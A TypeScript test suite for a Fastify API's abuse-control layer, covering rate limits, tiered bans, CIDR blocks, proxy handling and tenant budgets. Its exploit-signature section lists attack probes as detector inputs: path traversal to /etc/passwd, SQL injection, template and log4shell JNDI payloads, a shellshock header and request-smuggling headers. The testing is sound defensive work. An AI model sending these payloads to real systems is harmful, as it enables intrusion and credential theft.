// Abuse control (issue 3) on a small app of its own: rate limits with tiered bans, exploit signatures, CIDR blocks,
// failed-authentication bans, per-tenant budgets, trusted proxies and the method guard.
import { request } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import Fastify, { type FastifyInstance, type LightMyRequestResponse } from 'fastify';
import { registerProblemDetails } from '../../src/platform/http/problem-details.ts';
import { DEFAULT_ABUSE_POLICY, registerAbuseControl, resolveAbusePolicy, type AbuseControl, type AbusePolicyInput } from '../../src/modules/abuse/http/abuse-control.ts';
import { createClientIpResolver } from '../../src/modules/abuse/http/client-ip.ts';
import { findExploitSignature } from '../../src/modules/abuse/http/exploit-guard.ts';
import { BanService, MemoryBanStore, type Ban } from '../../src/modules/abuse/app/ban-service.ts';
import { MemoryRateLimiter } from '../../src/modules/abuse/app/rate-limiter.ts';
import { AppError } from '../../src/shared/errors.ts';

class FakeClock {
  t = Date.parse('2026-03-01T00:00:00Z');
  now(): Date {
    return new Date(this.t);
  }
  advance(sec: number): void {
    this.t += sec * 1000;
  }
}

const PROXY = '10.0.0.1';
/** The test client of rawGet: a trusted proxy, so X-Forwarded-For names the address of each probe. */
const LOOPBACK = '127.0.0.1';

interface Harness {
  app: FastifyInstance;
  abuse: AbuseControl;
  bans: BanService;
  clock: FakeClock;
  events: { action: 'ban' | 'lift'; ban: Ban; actor: string }[];
  get(url: string, ip: string, headers?: Record<string, string>): Promise<LightMyRequestResponse>;
}

async function harness(policy: AbusePolicyInput = {}): Promise<Harness> {
  const clock = new FakeClock();
  const events: Harness['events'] = [];
  const bans = new BanService({
    store: new MemoryBanStore({ clock }),
    clock,
    onBan: (ban, actor) => void events.push({ action: 'ban', ban, actor }),
    onLift: (ban, actor) => void events.push({ action: 'lift', ban, actor }),
  });
  const app = Fastify();
  registerProblemDetails(app);
  const abuse = registerAbuseControl(app, {
    bans,
    limiter: new MemoryRateLimiter({ clock }),
    clientIp: createClientIpResolver({ trustedProxies: [PROXY, '10.1.0.0/16', LOOPBACK] }),
    policy,
    clock,
  });
  app.get('/v1/keys', async (req) => ({ keys: [], clientIp: req.clientIp }));
  app.post('/v1/verify', async (req) => ({ result: 'not-found', echo: req.body }));
  app.get('/healthz', async () => ({ ok: true }));
  app.get('/v1/ping', { config: { abuseGroup: 'exempt' } }, async () => ({ ok: true }));
  await app.register(async (tenantRoutes) => {
    // Stands in for api-key-auth: `Bearer t-<tenant>` authenticates, anything else is 401.
    tenantRoutes.addHook('onRequest', async (req) => {
      const m = /^Bearer t-(\w+)$/.exec(req.headers.authorization ?? '');
      if (!m) throw new AppError('UNAUTHENTICATED');
      (req as unknown as { auth: unknown }).auth = { tenant: { id: m[1] } };
    });
    tenantRoutes.get('/v1/invoices', async () => ({ items: [] }));
    tenantRoutes.post('/v1/invoices', async () => ({ ok: true }));
    tenantRoutes.get('/v1/invoices/:number', async () => ({ ok: true }));
  });
  await app.ready();
  return {
    app, abuse, bans, clock, events,
    get: (url, ip, headers = {}) => app.inject({ method: 'GET', url, remoteAddress: ip, headers }),
  };
}

const code = (r: LightMyRequestResponse): string => r.json<{ code: string }>().code;

/**
 * A request over a real socket: inject() parses its URL with WHATWG URL, which resolves `..` and `%2e%2e` before
 * the server sees them, while a real client's request target reaches the server as sent.
 */
async function rawGet(app: FastifyInstance, path: string, headers: Record<string, string>): Promise<{ status: number; code: string }> {
  if (!app.server.listening) await app.listen({ host: LOOPBACK, port: 0 });
  const { port } = app.server.address() as AddressInfo;
  return new Promise((resolve, reject) => {
    const req = request({ host: LOOPBACK, port, path, headers }, (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (c: string) => (body += c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, code: (JSON.parse(body) as { code: string }).code }));
    });
    req.on('error', reject);
    req.end();
  });
}

describe('per-address limits on public routes', () => {
  it('answers the 51st request in a minute 429 with Retry-After: 300 and bans the address for 5 minutes', async () => {
    const h = await harness();
    for (let i = 1; i <= 50; i++) {
      const r = await h.get('/v1/keys', '198.51.100.7');
      assert.equal(r.statusCode, 200, `request ${i}`);
      assert.equal(r.headers['ratelimit-policy'], '"public";q=50;w=60');
      assert.equal(r.headers.ratelimit, `"public";r=${50 - i};t=60`);
    }
    const refused = await h.get('/v1/keys', '198.51.100.7');
    assert.equal(refused.statusCode, 429);
    assert.equal(code(refused), 'RATE_LIMITED');
    assert.equal(refused.headers['retry-after'], '300');
    assert.equal(refused.headers.ratelimit, '"public";r=0;t=300');
    assert.equal(refused.headers['content-type'], 'application/problem+json; charset=utf-8');
    assert.deepEqual(h.events.map((e) => [e.action, e.ban.target, e.ban.reason, e.actor]), [['ban', '198.51.100.7', 'rate-limit', 'system']]);
    assert.equal(h.events[0]!.ban.until, new Date(h.clock.t + 300_000).toISOString());

    h.clock.advance(120);
    const still = await h.get('/v1/keys', '198.51.100.7');
    assert.equal(still.statusCode, 429, 'the ban outlasts the one-minute window');
    assert.equal(still.headers['retry-after'], '180');
    assert.equal((await h.get('/v1/keys', '198.51.100.8')).statusCode, 200, 'another address is not affected');

    h.clock.advance(180);
    const after = await h.get('/v1/keys', '198.51.100.7');
    assert.equal(after.statusCode, 200);
    assert.equal(after.headers.ratelimit, '"public";r=49;t=60');
    assert.equal(h.events.length, 1, 'refusals during the ban do not ban again');
  });

  it('counts every public route, unknown paths and IPv6 by /64, but not health probes or exempt routes', async () => {
    const h = await harness({ public: { limit: 4 } });
    for (let i = 0; i < 20; i++) assert.equal((await h.get('/healthz', '198.51.100.9')).statusCode, 200);
    for (let i = 0; i < 20; i++) assert.equal((await h.get('/v1/ping', '198.51.100.9')).headers.ratelimit, undefined, 'route config');
    const ipv6 = ['2001:db8:1:2::1', '2001:db8:1:2::2', '2001:db8:1:2:ffff::9'];
    assert.equal((await h.get('/v1/keys', ipv6[0]!)).statusCode, 200);
    assert.equal((await h.app.inject({ method: 'POST', url: '/v1/verify', payload: {}, remoteAddress: ipv6[1] })).statusCode, 200);
    assert.equal((await h.get('/nope', ipv6[2]!)).statusCode, 404);
    assert.equal((await h.get('/v1/keys', ipv6[0]!)).statusCode, 200);
    const fifth = await h.get('/v1/keys', ipv6[1]!);
    assert.equal(fifth.statusCode, 429);
    assert.equal(h.events[0]!.ban.target, '2001:db8:1:2::/64');
    assert.equal((await h.get('/v1/keys', '2001:db8:1:3::1')).statusCode, 200, 'the next /64 is another subscriber');
  });

  it('never limits an exempt address', async () => {
    const h = await harness({ public: { limit: 2 }, exemptCidrs: ['192.0.2.0/28'] });
    for (let i = 0; i < 5; i++) assert.equal((await h.get('/v1/keys', '192.0.2.3')).statusCode, 200);
    assert.equal((await h.get('/v1/keys', '192.0.2.3')).headers.ratelimit, undefined);
  });
});

describe('exploit signatures', () => {
  const probes: [string, string, Record<string, string>?][] = [
    ['path traversal', '/v1/keys/../../etc/passwd'],
    ['encoded traversal', '/v1/%2e%2e/%2e%2e/secret'],
    ['mixed encoding', '/static/..%2f..%2fconfig'],
    ['double encoding', '/v1/%252e%252e/x'],
    ['null byte', '/v1/keys%00.json'],
    ['traversal in the query', '/v1/keys?file=../../app.ts'],
    ['sql tautology', "/v1/keys?id=1'%20or%201=1--"],
    ['sql union', '/v1/keys?id=1+UNION+SELECT+NULL,NULL--'],
    ['sql sleep', '/v1/keys?id=1%20AND%20sleep(5)'],
    ['template in query', '/v1/keys?name={{7*7}}'],
    ['expression language', '/v1/keys?x=${7*7}'],
    ['erb', '/v1/keys?x=<%25=%207*7%20%25>'],
    ['.env', '/.env'],
    ['.git', '/.git/config'],
    ['wordpress', '/wp-admin/setup-config.php'],
    ['wp-login', '/wp-login.php'],
    ['phpmyadmin', '/phpmyadmin/index.php'],
    ['cgi-bin', '/cgi-bin/luci'],
    ['actuator', '/actuator/health'],
    ['server-status', '/server-status'],
    ['/etc/passwd in the query', '/v1/keys?f=/etc/passwd'],
    ['log4shell header', '/v1/keys', { 'user-agent': '${jndi:ldap://x.example/a}' }],
    ['template header', '/v1/keys', { 'x-api-version': '{{7*7}}' }],
    ['shellshock', '/v1/keys', { referer: '() { :; }; /bin/cat /etc/passwd' }],
    ['sql in user-agent', '/v1/keys', { 'user-agent': "sqlmap' OR '1'='1" }],
    ['obfuscated transfer-encoding', '/v1/keys', { 'transfer-encoding': 'chunked, identity' }],
    ['content-length with transfer-encoding', '/v1/keys', { 'transfer-encoding': 'chunked', 'content-length': '4' }],
  ];

  it('refuses each probe 403 EXPLOIT_SIGNATURE and bans the address for an hour', async (t) => {
    const h = await harness();
    t.after(() => h.app.close());
    let n = 0;
    for (const [name, url, headers] of probes) {
      const ip = `203.0.113.${++n}`;
      if (headers) {
        const r = await h.get(url, ip, headers);
        assert.equal(r.statusCode, 403, name);
        assert.equal(code(r), 'EXPLOIT_SIGNATURE', name);
        assert.equal(r.headers.ratelimit, undefined, name);
      } else {
        assert.deepEqual(await rawGet(h.app, url, { 'x-forwarded-for': ip }), { status: 403, code: 'EXPLOIT_SIGNATURE' }, name);
      }
      const next = await h.get('/v1/keys', ip);
      assert.equal(next.statusCode, 403, `${name}: banned afterwards`);
      assert.equal(code(next), 'BANNED');
      assert.equal(next.headers['retry-after'], '3600');
    }
    assert.equal(h.events.length, probes.length);
    assert.ok(h.events.every((e) => e.ban.reason === 'exploit' && e.ban.note !== undefined));
    h.clock.advance(3600);
    assert.equal((await h.get('/v1/keys', '203.0.113.1')).statusCode, 200, 'the ban ends after an hour');
  });

  it('lets ordinary requests through, and never reads the JSON body', async () => {
    const h = await harness({ public: { limit: 1000 } });
    const body = {
      buyer: { name: "Select Union 联合贸易 ' or 1=1 --", address: '{{7*7}} ${jndi:x} <%= x %> ../../etc/passwd' },
      remarks: 'union select 1,2,3; sleep(5)',
    };
    const post = await h.app.inject({ method: 'POST', url: '/v1/verify', payload: body, remoteAddress: '198.51.100.20' });
    assert.equal(post.statusCode, 200);
    const clean: [string, Record<string, string>?][] = [
      ['/v1/keys?buyerName=Select%20Union%20Trading%20Co'],
      ["/v1/keys?buyerName=O'Brien%20and%20Sons"],
      ['/v1/keys?name=%E5%8C%97%E4%BA%AC%E7%A7%91%E6%8A%80%E6%9C%89%E9%99%90%E5%85%AC%E5%8F%B8'],
      ['/v1/keys?from=2026-01-01T00:00:00%2B08:00&to=2026-02-01&cursor=eyJpZCI6MX0'],
      ['/v1/keys?sort=-issuedAt&status=normal,red-flushed'],
      ['/v1/keys?file=2026.03.json&v=1.2'],
      ['/v1/keys', { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36' }],
      ['/v1/keys', { referer: 'https://shop.example.com/orders?id=42&q=select' }],
      ['/v1/keys', { authorization: 'Bearer {{apiKey}}', 'idempotency-key': '${ORDER_ID}' }],
      ['/v1/keys', { accept: 'application/json, text/plain, */*', 'transfer-encoding': 'chunked' }],
    ];
    for (const [url, headers] of clean) {
      const r = await h.get(url, '198.51.100.20', headers);
      assert.equal(r.statusCode, 200, `${url} ${JSON.stringify(headers ?? {})}: ${r.body}`);
    }
    assert.equal(h.events.length, 0);
  });

  it('finds the signature in the request line and headers only', () => {
    assert.deepEqual(findExploitSignature({ method: 'GET', url: '/x?a=1%27%20or%20%271%27=%271', headers: {} }), { kind: 'sql-injection', where: 'query' });
    assert.deepEqual(findExploitSignature({ method: 'GET', url: '/.git/HEAD', headers: {} }), { kind: 'scanner-path', where: 'path' });
    assert.deepEqual(findExploitSignature({ method: 'GET', url: '/', headers: { 'x-a': '${jndi:dns://x}' } }), { kind: 'template-injection', where: 'header', header: 'x-a' });
    assert.equal(findExploitSignature({ method: 'GET', url: '/v1/invoices?status=normal', headers: { host: 'fapiao.example.com' } }), undefined);
  });
});

describe('blocked addresses', () => {
  it('refuses configured CIDR blocks permanently with 403 BLOCKED and no rate fields', async () => {
    const h = await harness({ blockedCidrs: ['203.0.113.0/24', '2001:db8:bad::/48'] });
    for (const ip of ['203.0.113.200', '::ffff:203.0.113.5', '2001:db8:bad:1::7']) {
      const r = await h.get('/v1/keys', ip);
      assert.equal(r.statusCode, 403, ip);
      assert.equal(code(r), 'BLOCKED');
      assert.equal(r.headers['retry-after'], undefined);
      assert.equal(r.headers.ratelimit, undefined);
      assert.equal(r.headers['ratelimit-policy'], undefined);
    }
    assert.equal((await h.get('/healthz', '203.0.113.1')).statusCode, 403, 'a block covers every path');
    h.clock.advance(86_400 * 365);
    assert.equal((await h.get('/v1/keys', '203.0.113.1')).statusCode, 403);
    assert.equal((await h.get('/v1/keys', '203.0.114.1')).statusCode, 200);
  });

  it('applies blocks and bans added at run time, and lifts them', async () => {
    const h = await harness();
    await h.bans.ban({ target: '198.51.100.0/24', reason: 'blocklist', actor: 'admin:alice' });
    h.clock.advance(1);
    await h.bans.ban({ target: '192.0.2.9', reason: 'manual', durationSec: 600, actor: 'admin:alice', note: 'ticket 42' });
    const blocked = await h.get('/v1/keys', '198.51.100.77');
    assert.equal(code(blocked), 'BLOCKED');
    const banned = await h.get('/v1/keys', '192.0.2.9');
    assert.equal(code(banned), 'BANNED');
    assert.equal(banned.headers['retry-after'], '600');
    assert.deepEqual((await h.bans.list()).map((b) => b.target), ['198.51.100.0/24', '192.0.2.9']);
    assert.equal((await h.bans.lift('198.51.100.0/24', 'admin:bob'))?.reason, 'blocklist');
    assert.equal((await h.get('/v1/keys', '198.51.100.77')).statusCode, 200);
    assert.deepEqual(h.events.map((e) => [e.action, e.ban.target, e.actor]), [
      ['ban', '198.51.100.0/24', 'admin:alice'], ['ban', '192.0.2.9', 'admin:alice'], ['lift', '198.51.100.0/24', 'admin:bob'],
    ]);
  });
});

describe('trusted proxies', () => {
  it('takes the client address from X-Forwarded-For only when the peer is a trusted proxy', async () => {
    const h = await harness({ blockedCidrs: ['203.0.113.0/24'] });
    const via = await h.get('/v1/keys', PROXY, { 'x-forwarded-for': '203.0.113.50' });
    assert.equal(code(via), 'BLOCKED', 'the forwarded client is blocked');
    const dodge = await h.get('/v1/keys', '203.0.113.50', { 'x-forwarded-for': '8.8.8.8', 'x-real-ip': '8.8.4.4' });
    assert.equal(code(dodge), 'BLOCKED', 'a client-sent header does not dodge a block');
    const forged = await h.get('/v1/keys', PROXY, { 'x-forwarded-for': '8.8.8.8, 203.0.113.50, 10.1.2.3' });
    assert.equal(code(forged), 'BLOCKED', 'the right-most untrusted hop counts, not a forged left part');
    const ok = await h.get('/v1/keys', PROXY, { 'x-forwarded-for': '203.0.113.50, 198.51.100.4' });
    assert.equal(ok.json<{ clientIp: string }>().clientIp, '198.51.100.4');
  });

  it('resolves addresses in canonical form, with X-Real-IP as the fallback', () => {
    const resolve = createClientIpResolver({ trustedProxies: ['10.0.0.0/8', '2001:db8:ffff::/48'] });
    const r = (remoteAddress: string | undefined, headers: Record<string, string> = {}) => resolve({ socket: { remoteAddress }, headers });
    assert.equal(r('::ffff:198.51.100.1'), '198.51.100.1');
    assert.equal(r('2001:DB8:0:0::1'), '2001:db8::1');
    assert.equal(r('198.51.100.1', { 'x-forwarded-for': '1.1.1.1' }), '198.51.100.1');
    assert.equal(r('::ffff:10.0.0.2', { 'x-forwarded-for': '1.1.1.1, 10.9.9.9' }), '1.1.1.1');
    assert.equal(r('10.0.0.2', { 'x-forwarded-for': '[2001:db8::5]:4711, 10.0.0.3' }), '2001:db8::5');
    assert.equal(r('10.0.0.2', { 'x-forwarded-for': '198.51.100.3:5555' }), '198.51.100.3');
    assert.equal(r('2001:db8:ffff::1', { 'x-real-ip': '198.51.100.9' }), '198.51.100.9');
    assert.equal(r('10.0.0.2', { 'x-forwarded-for': '10.0.0.7, 10.0.0.8' }), '10.0.0.7', 'all hops trusted: the farthest');
    assert.equal(r('10.0.0.2', { 'x-forwarded-for': 'garbage', 'x-real-ip': '198.51.100.9' }), '198.51.100.9');
    assert.equal(r('10.0.0.2', { 'x-forwarded-for': 'garbage' }), '10.0.0.2');
    assert.equal(r(undefined), 'unknown');
    assert.equal(createClientIpResolver()({ socket: { remoteAddress: '10.0.0.2' }, headers: { 'x-forwarded-for': '1.1.1.1' } }), '10.0.0.2');
  });
});

describe('failed authentication', () => {
  it('bans an address for 15 minutes after more than 10 failed authentications in 5 minutes', async () => {
    const h = await harness();
    const bad = { authorization: 'Bearer wrong' };
    for (let i = 0; i < 11; i++) assert.equal((await h.get('/v1/invoices', '198.51.100.30', bad)).statusCode, 401, `attempt ${i + 1}`);
    const r = await h.get('/v1/invoices', '198.51.100.30', { authorization: 'Bearer t-acme' });
    assert.equal(r.statusCode, 429, 'banned even with a valid key');
    assert.equal(code(r), 'RATE_LIMITED');
    assert.equal(r.headers['retry-after'], '900');
    assert.deepEqual(h.events.map((e) => e.ban.reason), ['auth-failures']);
    assert.equal((await h.get('/v1/invoices', '198.51.100.31', { authorization: 'Bearer t-acme' })).statusCode, 200);
  });

  it('counts failures reported through recordAuthFailure', async () => {
    const h = await harness({ authFailures: { limit: 2 } });
    assert.equal(await h.abuse.recordAuthFailure('::ffff:192.0.2.44'), undefined);
    assert.equal(await h.abuse.recordAuthFailure('192.0.2.44'), undefined);
    const ban = await h.abuse.recordAuthFailure('192.0.2.44');
    assert.equal(ban?.target, '192.0.2.44');
    assert.equal(code(await h.get('/v1/keys', '192.0.2.44')), 'RATE_LIMITED');
  });
});

describe('per-tenant budgets', () => {
  it('limits each tenant on its own key, without banning the address', async () => {
    const h = await harness({ tenant: { limit: 3, windowSec: 60 } });
    const as = (tenant: string) => ({ authorization: `Bearer t-${tenant}` });
    for (let i = 1; i <= 3; i++) {
      const r = await h.get('/v1/invoices', '198.51.100.40', as('acme'));
      assert.equal(r.statusCode, 200);
      assert.equal(r.headers['ratelimit-policy'], '"tenant";q=3;w=60');
      assert.equal(r.headers.ratelimit, `"tenant";r=${3 - i};t=60`);
    }
    const refused = await h.get('/v1/invoices/1', '198.51.100.41', as('acme'));
    assert.equal(refused.statusCode, 429, 'the budget follows the tenant across addresses');
    assert.equal(refused.headers['retry-after'], '60');
    assert.equal(refused.headers.ratelimit, '"tenant";r=0;t=60');
    const other = await h.get('/v1/invoices', '198.51.100.40', as('globex'));
    assert.equal(other.statusCode, 200, "another tenant's budget is untouched (invariant 7)");
    assert.equal(other.headers.ratelimit, '"tenant";r=2;t=60');
    assert.equal(h.events.length, 0);
    h.clock.advance(60);
    assert.equal((await h.get('/v1/invoices', '198.51.100.40', as('acme'))).statusCode, 200);
  });

  it('does not charge tenant routes to the public per-address limit', async () => {
    const h = await harness({ public: { limit: 2 } });
    for (let i = 0; i < 5; i++) assert.equal((await h.get('/v1/invoices', '198.51.100.42', { authorization: 'Bearer t-acme' })).statusCode, 200);
  });
});

describe('method guard', () => {
  it('answers TRACE, CONNECT and unsupported methods 405 problem+json with Allow, never 500', async () => {
    const h = await harness();
    for (const method of ['TRACE', 'CONNECT', 'PROPFIND', 'DELETE', 'PUT'] as const) {
      const r = await h.app.inject({ method, url: '/v1/keys', remoteAddress: '198.51.100.50' });
      assert.equal(r.statusCode, 405, method);
      assert.equal(code(r), 'METHOD_NOT_ALLOWED');
      assert.equal(r.headers.allow, 'GET, HEAD', method);
      assert.equal(r.headers['content-type'], 'application/problem+json; charset=utf-8');
    }
    const invoices = await h.app.inject({ method: 'PATCH', url: '/v1/invoices?x=1', remoteAddress: '198.51.100.50' });
    assert.equal(invoices.statusCode, 405);
    assert.equal(invoices.headers.allow, 'GET, HEAD, POST');
    assert.equal((await h.app.inject({ method: 'DELETE', url: '/v1/invoices/26310000000000000001', remoteAddress: '198.51.100.50' })).headers.allow, 'GET, HEAD');
    const trace = await h.app.inject({ method: 'TRACE', url: '/nowhere', remoteAddress: '198.51.100.50' });
    assert.equal(trace.statusCode, 405);
    assert.equal(trace.headers.allow, undefined, 'no Allow where the path does not exist');
    assert.equal((await h.app.inject({ method: 'DELETE', url: '/nowhere', remoteAddress: '198.51.100.50' })).statusCode, 404);
    assert.equal((await h.app.inject({ method: 'HEAD', url: '/v1/keys', remoteAddress: '198.51.100.50' })).statusCode, 200);
  });
});

describe('store outage', () => {
  it('fails open: requests are admitted when the shared store is down, and the blocklist still applies', async () => {
    const down = () => Promise.reject(new Error('connect ECONNREFUSED 127.0.0.1:6379'));
    const clock = new FakeClock();
    const bans = new BanService({ store: { add: down, lift: down, get: down, list: down, check: down }, clock });
    const app = Fastify();
    registerProblemDetails(app);
    registerAbuseControl(app, {
      bans, limiter: { hit: down, reset: down }, clientIp: createClientIpResolver(), policy: { blockedCidrs: ['203.0.113.0/24'] }, clock,
    });
    app.get('/v1/keys', async () => ({ keys: [] }));
    await app.ready();
    const ok = await app.inject({ method: 'GET', url: '/v1/keys', remoteAddress: '198.51.100.1' });
    assert.equal(ok.statusCode, 200);
    assert.equal(ok.headers.ratelimit, undefined);
    assert.equal((await app.inject({ method: 'GET', url: '/v1/keys', remoteAddress: '203.0.113.1' })).statusCode, 403);
    const probe = await app.inject({ method: 'GET', url: '/.env', remoteAddress: '198.51.100.1' });
    assert.equal(code(probe), 'EXPLOIT_SIGNATURE', 'refused even when the ban cannot be stored');
  });
});

describe('policy', () => {
  it('has the documented defaults and refuses nonsense', () => {
    assert.deepEqual(DEFAULT_ABUSE_POLICY.public, { limit: 50, windowSec: 60, banSec: 300 });
    assert.equal(DEFAULT_ABUSE_POLICY.exploitBanSec, 3600);
    assert.deepEqual(resolveAbusePolicy({ public: { limit: 10 } }).public, { limit: 10, windowSec: 60, banSec: 300 });
    assert.throws(() => resolveAbusePolicy({ public: { limit: 0 } }), /public\.limit/);
    assert.throws(() => resolveAbusePolicy({ exploitBanSec: 1.5 }), /exploitBanSec/);
  });
});
